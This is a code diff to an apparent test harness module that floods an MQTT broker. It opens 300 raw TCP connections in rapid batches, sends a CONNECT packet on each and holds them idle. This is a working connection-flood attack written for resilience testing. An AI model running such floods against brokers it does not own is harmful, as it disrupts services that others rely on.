@@ -1,33 +1,45 @@
 import { randomBytes } from 'node:crypto';
-import type { MqttClient } from 'mqtt';
-import { connectPlantClient } from '../plant-client';
+import { connect, type Socket } from 'node:net';
+import { generate } from 'mqtt-packet';
 import { type Attack, pause } from './attack-scene';
 
 const connections = 300;
-const atOnce = 25;
-const holdMs = 10_000;
+const perTick = 30;
+const tickMs = 100;
+const holdMs = 12_000;
 
-/** Opens hundreds of connections within seconds, each with an id of its own, and leaves them idle for a while. */
+/** Opens hundreds of connections within a second, each with an id of its own, says hello on each and nothing else. */
 export const connectionFlood: Attack = async (scene) => {
+  const { hostname, port } = new URL(scene.url);
   const tag = randomBytes(3).toString('hex');
-  const open: MqttClient[] = [];
-  const startedAt = Date.now();
+  const sockets: Socket[] = [];
+  let accepted = 0;
   try {
-    while (open.length < connections) {
-      scene.signal.throwIfAborted();
-      const opening = Array.from({ length: atOnce }, (_, number) =>
-        connectPlantClient(scene.url, `bot-${tag}-${open.length + number}`, { reconnectPeriod: 0 }),
-      );
-      for (const opened of await Promise.allSettled(opening)) {
-        if (opened.status === 'rejected') continue;
-        opened.value.on('error', () => undefined);
-        open.push(opened.value);
+    while (sockets.length < connections) {
+      for (const end = sockets.length + perTick; sockets.length < end; ) {
+        const clientId = `bot-${tag}-${sockets.length}`;
+        const socket = connect(Number(port), hostname);
+        socket.on('error', () => socket.destroy());
+        socket.once('data', () => {
+          accepted++;
+        });
+        socket.write(
+          generate({
+            cmd: 'connect',
+            clientId,
+            protocolId: 'MQTT',
+            protocolVersion: 4,
+            clean: true,
+            keepalive: 60,
+          }),
+        );
+        sockets.push(socket);
       }
+      await pause(scene, tickMs);
     }
-    const seconds = ((Date.now() - startedAt) / 1000).toFixed(1);
     await pause(scene, holdMs);
-    return `${open.length} MQTT clients named bot-${tag}-… connected within ${seconds} seconds, said nothing and left.`;
+    return `${accepted} MQTT clients named bot-${tag}-… connected at once, said nothing and left.`;
   } finally {
-    await Promise.all(open.map((client) => client.endAsync(true)));
+    for (const socket of sockets) socket.destroy();
   }
 };
